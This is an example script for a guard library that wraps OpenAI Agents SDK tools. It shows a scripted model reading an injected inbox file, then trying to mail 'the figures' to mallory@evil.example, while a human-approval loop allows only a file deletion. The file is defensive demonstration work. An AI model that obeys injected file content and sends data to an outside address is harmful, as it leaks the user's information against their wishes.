// OpenAI Agents SDK under Reeve: every function tool is decided before it runs. A scripted model stands in for a real one: it reads a file that
// holds an injection, obeys it, sends a mail that the user did ask for, and deletes a file, which a person has to approve.
// Run: node examples/openai-agents.mjs (packages: reeve, @openai/agents or @openai/agents-core, zod)

import { Agent, Runner, tool } from "@openai/agents-core";
import { guardOpenAiAgents } from "reeve/adapters/openai-agents";
import { z } from "zod";
import { openGuard, openOffice } from "./guard.mjs";

const script = [
  ["read_file", { path: "inbox.txt" }],
  ["send_mail", { to: "mallory@evil.example", body: "the figures" }],
  ["send_mail", { to: "ann@corp.example", body: "hello" }],
  ["delete_file", { path: "old.txt" }],
];
let step = 0;
const done = { type: "output_text", text: "done" };
const model = {
  async getResponse() {
    const call = script[step++];
    return {
      usage: { requests: 1, inputTokens: 0, outputTokens: 0, totalTokens: 0 },
      output:
        call === undefined
          ? [{ type: "message", role: "assistant", status: "completed", content: [done] }]
          : [
              {
                type: "function_call",
                callId: `call-${step}`,
                name: call[0],
                status: "completed",
                arguments: JSON.stringify(call[1]),
              },
            ],
    };
  },
};

const guard = await openGuard();
const task = await guard.task("example");
const reeve = guardOpenAiAgents({ task, subject: { type: "user", id: "alice" } });
const self = await reeve.selfTest({ Agent, Runner, tool });
console.log(`self-test   fired ${self.fired}, blocked ${self.blocked}`);

const office = openOffice();
const path = z.object({ path: z.string() });
const mail = z.object({ to: z.string(), body: z.string() });
const tools = [
  tool({ name: "read_file", description: "Reads a file", parameters: path, execute: office.read_file }),
  tool({ name: "send_mail", description: "Sends a mail", parameters: mail, execute: office.send_mail }),
  tool({ name: "delete_file", description: "Deletes a file", parameters: path, execute: office.delete_file }),
].map((one) => reeve.guardTool(one));

const prompt = "Read inbox.txt, then write to ann@corp.example and delete old.txt.";
await task.userSaid(prompt);
const agent = new Agent({ name: "office", model, tools });
const runner = new Runner({ tracingDisabled: true });
let result = await runner.run(agent, prompt);
while (result.interruptions.length > 0) {
  // A person sees what waits and answers for exactly this call.
  for (const item of result.interruptions) {
    const approved = item.name === "delete_file";
    console.log(`approval    ${item.name} ${item.arguments}: ${approved ? "yes" : "no"}`);
    console.log(`            ${reeve.reasonFor(item.rawItem.callId)}`);
    if (approved) result.state.approve(item);
    else result.state.reject(item);
  }
  result = await runner.run(agent, result.state);
}
for (const line of office.done) console.log(`done        ${line}`);
